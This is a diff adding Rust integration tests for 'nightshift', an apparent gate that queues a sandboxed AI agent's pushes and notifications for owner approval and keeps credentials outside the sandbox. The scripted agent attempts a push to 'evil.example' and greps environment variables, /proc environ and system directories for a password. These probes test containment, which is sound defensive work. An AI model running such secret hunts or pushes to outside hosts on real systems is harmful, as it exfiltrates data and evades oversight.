@@ -1,0 +1,305 @@
+//! Night to morning through the door: a sandboxed agent asks for acts, the
+//! gate refuses what it must, the rest waits for a person; approved acts are
+//! carried out with credentials that never entered the sandbox, and only as
+//! approved (a moved remote ref makes an act stale instead).
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use tests::loopback::{GitHttpServer, NotifyServer};
+use tests::{git, image, make_repo, only_run, stderr, stdout, State};
+
+const PASSWORD: &str = "s3cret-door-password-5e1f";
+
+struct Morning {
+    state: State,
+    repo: tempfile::TempDir,
+    _remote_dir: tempfile::TempDir,
+    bare: std::path::PathBuf,
+    git_server: GitHttpServer,
+    notify: NotifyServer,
+    public_log: NotifyServer,
+    key: std::path::PathBuf,
+}
+
+fn setup() -> Morning {
+    let state = State::new();
+    let repo = make_repo();
+    let remote_dir = tempfile::tempdir().unwrap();
+    let bare = remote_dir.path().join("origin.git");
+    git(
+        remote_dir.path(),
+        &["init", "-q", "--bare", bare.to_str().unwrap()],
+    );
+    let git_server = GitHttpServer::start(&bare, "nightshift", PASSWORD);
+    let notify = NotifyServer::start();
+    let public_log = NotifyServer::start();
+    let secrets = state.path().join("secrets");
+    std::fs::create_dir(&secrets).unwrap();
+    let pw = secrets.join("origin.password");
+    std::fs::write(&pw, PASSWORD).unwrap();
+    std::fs::set_permissions(&pw, std::fs::Permissions::from_mode(0o600)).unwrap();
+    std::fs::write(
+        state.path().join("destinations.toml"),
+        format!(
+            "[remotes.origin]\nurl = \"{}\"\nreaders = \"private\"\nusername = \"nightshift\"\npassword_file = \"{}\"\n\n\
+             [notify.team]\nurl = \"{}\"\nreaders = \"private\"\n\n\
+             [notify.public-log]\nurl = \"{}\"\nreaders = \"public\"\n",
+            git_server.url(),
+            pw.display(),
+            notify.url(),
+            public_log.url()
+        ),
+    )
+    .unwrap();
+    assert!(state.run(&["owner", "init"]).status.success());
+    let key = state.path().join("owner.key");
+    Morning {
+        state,
+        repo,
+        _remote_dir: remote_dir,
+        bare,
+        git_server,
+        notify,
+        public_log,
+        key,
+    }
+}
+
+fn run_agent(m: &Morning, script: &str) -> String {
+    let out = m.state.run(&[
+        "run",
+        "--repo",
+        m.repo.path().to_str().unwrap(),
+        "--image",
+        &image(),
+        "--",
+        "bash",
+        "-c",
+        script,
+    ]);
+    assert!(
+        out.status.success(),
+        "agent run failed: {}{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    let runs = m.state.runs();
+    let id = runs.last().unwrap()["id"].as_str().unwrap().to_string();
+    m.state.output_log(&id)
+}
+
+fn queue(m: &Morning) -> Vec<serde_json::Value> {
+    let out = m.state.run(&["queue", "--json"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+fn act_of(queue: &[serde_json::Value], door: &str) -> String {
+    queue
+        .iter()
+        .find(|a| a["act"]["door"] == door)
+        .unwrap_or_else(|| panic!("no {door} act in {queue:?}"))["act"]["id"]
+        .as_str()
+        .unwrap()
+        .to_string()
+}
+
+fn remote_ref(bare: &Path, r: &str) -> Option<String> {
+    let out = std::process::Command::new("git")
+        .arg("--git-dir")
+        .arg(bare)
+        .args(["rev-parse", "--verify", "-q", r])
+        .output()
+        .unwrap();
+    out.status
+        .success()
+        .then(|| stdout(&out).trim().to_string())
+}
+
+#[test]
+fn night_to_morning() {
+    let m = setup();
+    let log = run_agent(
+        &m,
+        &format!(
+            r#"set -u
+echo "work" > work.txt && git add work.txt && git commit -qm "agent: work"
+echo "commit=$(git rev-parse HEAD)"
+git push origin HEAD:refs/heads/agent/work 2>&1; echo "push=$?"
+echo "the build is green" > msg.txt
+nightshift-act notify team --file msg.txt; echo "notify=$?"
+nightshift-act notify public-log --file msg.txt; echo "public=$?"
+nightshift-act push https://evil.example/x.git main; echo "url=$?"
+nightshift-act push /srv/other.git main; echo "path=$?"
+echo "should the parser be rewritten?" > q.txt
+nightshift-act ask --file q.txt; echo "ask=$?"
+if env | grep -q {PASSWORD}; then echo "env-secret=present"; else echo "env-secret=absent"; fi
+if grep -rqs {PASSWORD} /run/nightshift /workspace /home /tmp /etc; then echo "file-secret=present"; else echo "file-secret=absent"; fi
+if cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -q {PASSWORD}; then echo "proc-secret=present"; else echo "proc-secret=absent"; fi
+"#
+        ),
+    );
+    let get = |k: &str| {
+        log.lines()
+            .find_map(|l| l.strip_prefix(&format!("{k}=")))
+            .unwrap_or("<missing>")
+            .to_string()
+    };
+    assert_eq!(get("push"), "0", "{log}");
+    assert!(log.contains("queued as act"), "{log}");
+    assert_eq!(get("notify"), "0", "{log}");
+    assert_eq!(
+        get("public"),
+        "3",
+        "private content to a public destination: {log}"
+    );
+    assert!(log.contains("refused by rule nightshift:labels"), "{log}");
+    assert_ne!(get("url"), "0", "a raw URL was accepted: {log}");
+    assert_ne!(get("path"), "0", "a raw path was accepted: {log}");
+    assert_eq!(get("ask"), "0");
+    assert_eq!(get("env-secret"), "absent");
+    assert_eq!(get("file-secret"), "absent");
+    assert_eq!(get("proc-secret"), "absent");
+    // Nothing left the sandbox during the night.
+    assert!(
+        m.git_server.requests().iter().all(|r| r.method == "GET"),
+        "a push reached the remote overnight"
+    );
+    assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);
+    assert!(m.notify.requests().is_empty());
+    assert!(m.public_log.requests().is_empty());
+
+    // Morning: three acts wait.
+    let q = queue(&m);
+    assert_eq!(q.len(), 3, "{q:?}");
+    assert!(q.iter().all(|a| a["status"] == "pending"));
+    let push = act_of(&q, "push");
+    let notify = act_of(&q, "notify");
+
+    // Approval needs the owner's credential.
+    let out = m.state.run(&["approve", &push]);
+    assert_eq!(out.status.code(), Some(9), "{}", stderr(&out));
+    let wrong = m.state.path().join("wrong.key");
+    std::fs::write(&wrong, "not the key").unwrap();
+    let out = m.state.run(&[
+        "approve",
+        &push,
+        "--owner-key-file",
+        wrong.to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(9));
+    assert_eq!(remote_ref(&m.bare, "refs/heads/agent/work"), None);
+
+    let out = m.state.run(&[
+        "approve",
+        &push,
+        "--owner-key-file",
+        m.key.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
+    assert!(stdout(&out).contains("done"), "{}", stdout(&out));
+    assert_eq!(
+        remote_ref(&m.bare, "refs/heads/agent/work").as_deref(),
+        Some(get("commit").as_str())
+    );
+    // Single use: approving again does nothing more.
+    let out = m.state.run(&[
+        "approve",
+        &push,
+        "--owner-key-file",
+        m.key.to_str().unwrap(),
+    ]);
+    assert!(!out.status.success());
+
+    let out = m.state.run(&[
+        "reject",
+        &notify,
+        "--why",
+        "not now",
+        "--owner-key-file",
+        m.key.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        m.notify.requests().is_empty(),
+        "a rejected message was sent"
+    );
+
+    // The password never reached the audit or the queue either. (The runs
+    // table holds the agent's command, which names the password to probe for.)
+    let db = rusqlite::Connection::open(m.state.path().join("state.db")).unwrap();
+    for table in ["audit", "acts", "policy_rows"] {
+        let mut stmt = db.prepare(&format!("SELECT * FROM {table}")).unwrap();
+        let n = stmt.column_count();
+        let rows: Vec<String> = stmt
+            .query_map([], |r| {
+                Ok((0..n)
+                    .map(|i| match r.get_ref(i).unwrap() {
+                        rusqlite::types::ValueRef::Text(t) | rusqlite::types::ValueRef::Blob(t) => {
+                            String::from_utf8_lossy(t).into_owned()
+                        }
+                        other => format!("{other:?}"),
+                    })
+                    .collect::<Vec<_>>()
+                    .join(" "))
+            })
+            .unwrap()
+            .map(Result::unwrap)
+            .collect();
+        assert!(!rows.is_empty() || table == "policy_rows");
+        for row in rows {
+            assert!(!row.contains(PASSWORD), "the password is in {table}: {row}");
+        }
+    }
+    assert!(m.state.verify().status.success());
+    let run = &m.state.runs()[0];
+    assert!(run["status"] == "exited 0");
+}
+
+#[test]
+fn a_moved_remote_makes_an_approved_act_stale() {
+    let m = setup();
+    run_agent(
+        &m,
+        "echo a > a.txt && git add a.txt && git commit -qm a && git push origin HEAD:refs/heads/agent/stale",
+    );
+    let push = act_of(&queue(&m), "push");
+    // Someone else pushes to that branch before the morning.
+    let other = tempfile::tempdir().unwrap();
+    git(other.path(), &["init", "-q", "-b", "main"]);
+    std::fs::write(other.path().join("b.txt"), "b").unwrap();
+    git(other.path(), &["add", "-A"]);
+    git(other.path(), &["commit", "-qm", "someone else"]);
+    git(
+        other.path(),
+        &[
+            "push",
+            "-q",
+            m.bare.to_str().unwrap(),
+            "HEAD:refs/heads/agent/stale",
+        ],
+    );
+    let theirs = remote_ref(&m.bare, "refs/heads/agent/stale");
+    let out = m.state.run(&[
+        "approve",
+        &push,
+        "--owner-key-file",
+        m.key.to_str().unwrap(),
+    ]);
+    assert!(
+        stdout(&out).contains("stale"),
+        "{}{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    assert_eq!(
+        remote_ref(&m.bare, "refs/heads/agent/stale"),
+        theirs,
+        "the remote was forced"
+    );
+    let q = queue(&m);
+    assert_eq!(q[0]["status"], "stale");
+    assert!(m.state.verify().status.success());
+    let _ = only_run(&m.state);
+}
